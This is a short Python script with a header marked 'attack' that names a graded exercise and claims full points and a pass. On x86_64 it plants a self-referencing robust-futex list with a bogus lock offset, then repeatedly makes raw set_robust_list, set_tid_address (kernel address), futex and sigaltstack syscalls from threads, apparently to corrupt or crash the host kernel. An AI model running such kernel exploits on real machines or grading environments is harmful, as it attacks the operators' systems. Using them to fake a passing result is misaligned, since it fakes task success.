# /// attack
# tries = "Gives the kernel lists and locks that lead astray, for it to follow as a thread ends."
# exercise = "ex02_zero_padding"
# answers = "right"
# points = "all"
# outcomes = ["passed"]
# ///
import ctypes
import platform
import struct
import threading

_libc = ctypes.CDLL(None, use_errno=True)
_lock = ctypes.create_string_buffer(4096)
_at = ctypes.addressof(_lock)
# A list that leads back to itself, with its locks far outside of it.
ctypes.memmove(_at, struct.pack("<QqQ", _at, -(1 << 46), _at), 24)


def _astray():
    for call in (
        (273, ctypes.c_ulong(_at), ctypes.c_ulong(24)),
        (218, ctypes.c_ulong(0xFFFF_8000_0000_0000)),
        (202, ctypes.c_ulong(_at + 64), 6, 0, None, None, 0),
        (202, ctypes.c_ulong(_at + 64), 4, 1, ctypes.c_ulong(2**31 - 1), ctypes.c_ulong(_at), 0),
        (202, ctypes.c_ulong(_at + 64), 12, 1, ctypes.c_ulong(1), ctypes.c_ulong(_at + 128), 0),
        (131, ctypes.create_string_buffer(struct.pack("<QQQ", 1, 0, 1 << 40)), None),
    ):
        _libc.syscall(*call)


if platform.machine() == "x86_64":
    for _ in range(5):
        _thread = threading.Thread(target=_astray)
        _thread.start()
        _thread.join(0.2)
